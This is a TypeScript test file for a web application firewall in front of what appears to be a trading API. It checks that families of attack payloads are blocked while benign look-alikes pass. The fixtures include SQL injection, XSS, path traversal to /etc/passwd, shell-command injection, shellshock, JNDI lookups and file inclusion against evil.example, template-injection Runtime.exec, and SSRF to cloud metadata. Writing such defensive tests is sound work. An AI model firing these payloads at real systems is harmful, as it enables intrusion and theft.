import { describe, expect, it } from 'vitest';
import { collectBody, collectHead } from './collect-targets.js';
import { createFirewall } from './firewall.js';
import { DEFAULT_LIMITS } from './parse-args.js';
import { PULSE_EXCLUSIONS } from './pulse-exclusions.js';
import { get, postForm, postJson } from './test-requests.js';
import { DEFAULT_CONTENT_TYPES, DEFAULT_METHODS, protocolRules, SCANNER_RULES } from './rules/index.js';
import type { InspectedRequest } from './types.js';

const firewall = createFirewall({ exclusions: PULSE_EXCLUSIONS });
const rulesOf = (request: InspectedRequest) => firewall.inspect(request).matches.map((m) => m.ruleId);
const q = (value: string) => get(`/api/v1/assets?symbol=${encodeURIComponent(value)}`);

interface Family {
  family: string;
  attacks: [string, InspectedRequest][];
  benign: [string, InspectedRequest][];
}

const FAMILIES: Family[] = [
  {
    family: 'sqli',
    attacks: [
      ['quote break tautology', q("1' or '1'='1")],
      ['union select with comments', q('1 UN/**/ION SEL/**/ECT password FROM users--')],
      ['time-based blind', q("1' AND SLEEP(5)#")],
      ['stacked query', q("x'; DROP TABLE orders;--")],
      ['catalog probe', q('1 and 1=(select count(*) from information_schema.tables)')],
    ],
    benign: [
      ["O'Brien", q("O'Brien")],
      ['Select Sector SPDR', q('Select Sector SPDR')],
      ['Union Pacific', q('Union Pacific')],
    ],
  },
  {
    family: 'xss',
    attacks: [
      ['script tag', q('<script>alert(1)</script>')],
      ['event handler', q('<img src=x onerror=alert(1)>')],
      ['javascript URI entity-encoded', q('<a href="&#x6A;avascript:alert(1)">x</a>')],
      ['full-width tag', q('＜script＞alert(1)＜/script＞')],
    ],
    benign: [['less-than in prose', q('rsi < 30 and price > 10')]],
  },
  {
    family: 'lfi',
    attacks: [
      ['dot-dot-slash', q('../../../../etc/passwd')],
      ['double-encoded traversal', get('/api/v1/assets?file=%252e%252e%252fetc%252fpasswd')],
      ['windows file', q('..\\..\\windows\\win.ini')],
    ],
    benign: [['decimal', q('1.5..2.5')]],
  },
  {
    family: 'rfi',
    attacks: [
      ['include of a URL', q('include("http://evil.example/shell.txt")')],
      ['IP URL', q('http://203.0.113.9/x.txt?')],
    ],
    benign: [
      [
        'webhook to a public host',
        postJson('/api/v1/notify/channels', { webhook_url: 'https://hooks.slack.com/services/T/B/X' }),
      ],
    ],
  },
  {
    family: 'rce',
    attacks: [
      ['separator and command', q('AAPL; cat /etc/passwd')],
      ['substitution', q('$(whoami)')],
      ['shellshock in a header', get('/api/v1/clock', { 'User-Agent': '() { :; }; /bin/bash -c "id"' })],
      ['windows batch', q('for /f %i in (dir) do echo %i')],
    ],
    benign: [
      [
        'note with &&',
        postJson('/api/v1/orders', { symbol: 'AAPL', qty: '1', note: 'buy the dip && hold -- sell at 200' }),
      ],
    ],
  },
  {
    family: 'php/node/java',
    attacks: [
      ['php tag', q('<?php system($_GET["c"]); ?>')],
      ['php serialized object', q('O:8:"stdClass":1:{s:1:"a";i:2;}')],
      ['node child_process', q("require('child_process').exec('id')")],
      ['java class', q('java.lang.Runtime')],
      ['java gadget', q('ProcessBuilder.evil.invokertransformer')],
    ],
    benign: [['version string', q('v1.2.3-beta')]],
  },
  {
    family: 'template',
    attacks: [
      ['jinja', q("{{ config.__class__.__init__.__globals__['os'] }}")],
      ['spel', q('${T(java.lang.Runtime).getRuntime().exec("id")}')],
      ['ruby', q('#{7*7}')],
    ],
    benign: [
      [
        'placeholder',
        postJson('/api/v1/notify/channels', { template: 'Signal {{symbol}} fired at ${price}' }),
      ],
    ],
  },
  {
    family: 'ssrf',
    attacks: [
      ['metadata', q('http://169.254.169.254/latest/meta-data/')],
      ['decimal loopback', q('http://2130706433/admin')],
      ['hex loopback', q('http://0x7f.0x0.0x0.0x1/')],
      ['octal private', q('http://0300.0250.0.1/')],
      ['ipv6 loopback', postJson('/api/v1/notify/channels', { webhook_url: 'http://[::1]:8080/' })],
      ['private 10/8', postJson('/api/v1/notify/channels', { webhook_url: 'http://10.1.2.3/hook' })],
    ],
    benign: [['public host', postJson('/api/v1/notify/channels', { webhook_url: 'https://ntfy.sh/alerts' })]],
  },
  {
    family: 'nosql/prototype',
    attacks: [
      ['$ne key', postJson('/api/v1/auth/login', { email: 'a@b.c', password: { $ne: '' } })],
      ['$where in query', get('/api/v1/assets?filter[$where]=1')],
      ['__proto__ key', postForm('/api/v1/x', '__proto__[admin]=true')],
      ['constructor.prototype JSON', postJson('/api/v1/x', { constructor: { prototype: { admin: true } } })],
    ],
    benign: [['dollar amount', postJson('/api/v1/orders', { symbol: 'AAPL', qty: '1', limit_price: '$12' })]],
  },
  {
    family: 'crlf/jndi/scanner/session',
    attacks: [
      ['header injection', get('/api/v1/assets?next=%0d%0aSet-Cookie:%20a=b')],
      ['jndi in a header', get('/api/v1/clock', { 'X-Api-Version': '${jndi:ldap://evil.example/a}' })],
      [
        'obfuscated jndi',
        get('/api/v1/clock', { 'User-Agent': '${${lower:j}${::-n}${env:X:-d}i:ldap://x/a}' }),
      ],
      ['sqlmap', get('/api/v1/clock', { 'User-Agent': 'sqlmap/1.8#stable (https://sqlmap.org)' })],
      ['session id argument', get('/login?jsessionid=74B0CB414BD77D17')],
    ],
    benign: [['curl', get('/api/v1/clock', { 'User-Agent': 'curl/8.5.0' })]],
  },
  {
    family: 'protocol',
    attacks: [
      ['unknown method', { ...get('/api/v1/clock'), method: 'TRACK' }],
      [
        'CL and TE',
        {
          ...get('/api/v1/clock'),
          method: 'POST',
          headers: { Host: 'h', 'Content-Length': '4', 'Transfer-Encoding': 'chunked' },
        },
      ],
      ['null byte', get('/api/v1/assets?symbol=AAPL%00.php')],
      ['restricted file', get('/.env')],
      ['content type', postForm('/api/v1/x', '{}', 'application/csp-report')],
    ],
    benign: [['plain GET', get('/api/v1/bars?symbols=AAPL,MSFT&timeframe=5Min&start=2024-03-12T13:30:00Z')]],
  },
];

describe('rule families', () => {
  for (const { family, attacks, benign } of FAMILIES) {
    for (const [name, request] of attacks) {
      it(`blocks ${family}: ${name}`, () => {
        const verdict = firewall.inspect(request);
        expect(verdict.action, JSON.stringify(verdict.matches.map((m) => m.ruleId))).toBe('block');
        expect(verdict.score).toBeGreaterThanOrEqual(5);
      });
    }
    for (const [name, request] of benign) {
      it(`allows ${family} look-alike: ${name}`, () => {
        expect(rulesOf(request)).toEqual([]);
      });
    }
  }
});

describe('false-positive traps from the CRS deployment', () => {
  it('lets signal expressions through on the signals route', () => {
    const expressions = [
      'crossover(sma(close, 50), sma(close, 200)) and rsi(14) < 70',
      'close > bbands(20, 2).upper or volume > 2 * sma(volume, 20)',
      'round(close, 2) = round(open, 2)',
    ];
    for (const expression of expressions)
      expect(rulesOf(postJson('/api/v1/signals', { name: 'x', expression }))).toEqual([]);
  });

  it('lets notes with &&, --, quotes, Cyrillic, CJK and emoji through', () => {
    const notes = [
      'Buy the dip && hold',
      "Stop at 182 -- O'Brien's idea",
      'Купить после отчёта',
      '決算後に買い増し',
      'Earnings 🚀 trim 50%',
      '"Don\'t fight the Fed" -- classic',
    ];
    for (const note of notes)
      expect(
        rulesOf(
          postJson('/api/v1/orders', {
            symbol: 'AAPL',
            qty: '5',
            limit_price: '10.50',
            client_order_id: 'a-1',
            note,
          }),
        ),
      ).toEqual([]);
  });

  it('still blocks a script tag in a free-text note', () => {
    expect(
      firewall.inspect(postJson('/api/v1/orders', { note: '<script>alert(document.cookie)</script>' }))
        .action,
    ).toBe('block');
  });
});

describe('request rules that read only the head', () => {
  const rules = [
    ...protocolRules({ allowedMethods: DEFAULT_METHODS, allowedContentTypes: DEFAULT_CONTENT_TYPES }),
    ...SCANNER_RULES,
  ];
  const limits = { ...DEFAULT_LIMITS, maxArgs: 4, maxBodyBytes: 120 };
  // Bodies that make every body-reading rule fire, on heads that make head rules fire too.
  const requests: [string, InspectedRequest][] = [
    ['invalid JSON', postJson('/api/v1/orders', {})],
    ['NUL in a JSON value', postJson('/api/v1/orders.bak?_method=PUT', { note: 'a\u0000b' })],
    ['control character', postJson('/api/v1/orders', { note: 'a\u0001b' })],
    ['too many arguments', postJson('/api/v1/orders?a=1', { b: '1', c: '2', d: '3', e: '4' })],
    ['too large', postJson('/api/v1/orders', { note: 'x'.repeat(200) })],
    ['form with bad encoding', postForm('/api/v1/orders', 'a=%zz&b=%00')],
    ['a media type not allowed', postForm('/api/v1/orders', 'x=1', 'application/x-evil')],
    ['malformed multipart', postForm('/api/v1/orders', 'no parts here', 'multipart/form-data; boundary=zz')],
    ['GET with a body', { ...get('/api/v1/assets', { 'User-Agent': 'sqlmap/1.7' }), body: 'x=1' }],
  ];
  requests[0]![1].body = '{"symbol":';

  it.each(requests)('answer the same with or without the body (%s)', (_, request) => {
    const head = collectHead(request, limits);
    const full = collectBody(head, request.body, limits);
    for (const rule of rules.filter((r) => r.headOnly))
      expect(rule.check(head), rule.id).toEqual(rule.check(full));
  });

  it('leave to the body every rule whose answer the body changes', () => {
    const changed = new Set<string>();
    for (const [, request] of requests) {
      const head = collectHead(request, limits);
      const full = collectBody(head, request.body, limits);
      for (const rule of rules)
        if (JSON.stringify(rule.check(full)) !== JSON.stringify(rule.check(head))) changed.add(rule.id);
    }
    // The fixtures reach every body-reading rule, and none of them is marked head-only.
    expect([...changed].sort()).toEqual(
      rules
        .filter((r) => !r.headOnly)
        .map((r) => r.id)
        .sort(),
    );
  });
});
